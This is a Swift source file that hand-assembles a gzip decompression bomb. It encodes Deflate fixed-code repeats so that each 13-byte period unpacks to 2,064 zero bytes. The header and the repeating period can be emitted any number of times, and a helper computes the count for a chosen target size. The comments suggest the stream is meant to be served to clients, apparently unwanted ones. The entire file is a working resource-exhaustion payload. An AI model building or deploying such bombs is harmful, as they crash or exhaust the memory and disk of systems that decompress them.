/// A gzip stream of zeros, written by hand: 13 bytes of it become 2,064.
///
/// Deflate (RFC 1951, 3.2.6) with its fixed codes repeats 258 bytes in 13 bits, so eight repeats fill 13 bytes and
/// every further 13 bytes are alike. The stream ends without the checksum of RFC 1952: no client should come that far.
struct GzipBomb {
  /// Header, the first zero and the first repeats.
  let start: [UInt8]
  /// Any number of these may follow.
  let period: [UInt8]

  private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
  private static let bytesInPeriod = 8 * 258

  init() {
    let block = "010"  // not the last block; fixed codes
    let zero = "00110000"
    let repeat258 = "11000101" + "00000"
    let packed = Self.packed(block + zero + String(repeating: repeat258, count: 16))
    start = Self.header + packed.prefix(2)
    period = Array(packed.dropFirst(2).prefix(13))
  }

  /// Periods until about that many bytes are unpacked.
  static func periods(unpacking bytes: Int) -> Int { bytes / bytesInPeriod }

  /// Bits in their order on the wire, the first in the lowest place of a byte; an unfinished byte is left out.
  private static func packed(_ bits: String) -> [UInt8] {
    let bits = Array(bits)
    return stride(from: 0, to: bits.count - 7, by: 8).map { first in
      (0..<8).reduce(0) { byte, place in bits[first + place] == "1" ? byte | 1 << place : byte }
    }
  }
}
